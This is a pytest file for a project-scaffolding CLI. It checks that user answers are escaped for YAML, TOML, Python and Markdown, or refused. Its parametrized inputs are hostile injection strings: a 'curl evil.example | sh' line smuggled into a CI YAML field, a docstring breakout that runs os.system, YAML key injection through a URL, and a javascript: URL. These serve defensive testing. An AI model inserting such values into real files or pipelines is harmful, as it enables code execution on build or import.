"""Free text from answers reaches generated YAML, Python, TOML and Markdown only escaped for its context,
or is refused before anything is written. Before, a name with `"` and a newline broke both CI pipelines and
a name with `\"\"\"` ran code when the generated package was imported."""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from platform_cli.cli.main import run

OWNER = "--data", "eval_owner=jane.doe@example.com"


def _new(dest: Path, *data: str) -> int:
    args = [a for pair in data for a in ("--data", pair)]
    return run(["scaffold", "new-ai-feature", str(dest), "--defaults", "-q", *OWNER, *args])


@pytest.mark.parametrize(
    "answer",
    [
        'name=Evil"\nrun: curl evil.example | sh',
        'name=x"""; import os; os.system("touch pwned"); """',
        "name=line one\nline two",
        "name=tab\there",
        "name=ends with \\",
        'description=closes the docstring """ then code',
        "description=two\nlines",
        "owner=team a",
        "owner=team`x`",
        "eval_owner=`x`|<b>@example.com",
        'eval_owner="quoted"@example.com',
        "oncall_rotation=rota\n    evil: 1",
        "primary_provider=openai-compatible\nx",
    ],
)
def test_free_text_that_would_break_its_context_is_refused(tmp_path: Path, answer: str) -> None:
    assert _new(tmp_path / "out", answer) == 2
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8000\n    - name: evil\n      kind: openai\n      model: gpt-4o-2024-08-06",
        "http://x:1/v1?key=sk-abc",
        'http://x"y',
        "javascript:alert(1)",
    ],
)
def test_a_base_url_cannot_inject_yaml(tmp_path: Path, url: str) -> None:
    code = _new(tmp_path / "out", "primary_provider=openai-compatible", f"primary_base_url={url}")
    assert code == 2 and not (tmp_path / "out").exists()


def test_unusual_but_valid_text_is_escaped_for_each_context(tmp_path: Path) -> None:
    description = "Answers <b>billing</b> [docs](x) | *fast* #1 `now`: it's {{ safe }} & 100% done"
    dest = tmp_path / "out"
    assert _new(dest, "name=Support Bot (v2.1)", f"description={description}") == 0
    manifest = yaml.safe_load((dest / "ai-feature.yaml").read_text())
    assert manifest["metadata"]["description"] == description
    catalog = yaml.safe_load((dest / "catalog-info.yaml").read_text())
    assert catalog["metadata"]["description"] == description
    # the TOML basic string the template writes is a JSON string literal
    toml_line = next(
        x for x in (dest / "pyproject.toml").read_text().splitlines() if x.startswith("description")
    )
    assert json.loads(toml_line.split("=", 1)[1]) == description
    package = next((dest / "src").iterdir())
    module = ast.parse((package / "__init__.py").read_text())
    assert ast.get_docstring(module) == f"Support Bot (v2.1): {description}"
    readme = (dest / "README.md").read_text().splitlines()
    assert "<b>" not in readme[2] and "\\<b\\>" in readme[2] and "\\[docs\\]" in readme[2]
    for ci in (".github/workflows/ai-feature.yml", ".gitlab-ci.yml"):
        assert isinstance(yaml.safe_load((dest / ci).read_text()), dict)
    imported = subprocess.run(
        [sys.executable, "-c", f"import sys; sys.path.insert(0, 'src'); import {package.name}"],
        cwd=dest,
        capture_output=True,
        text=True,
        check=False,
    )
    assert imported.returncode == 0, imported.stderr
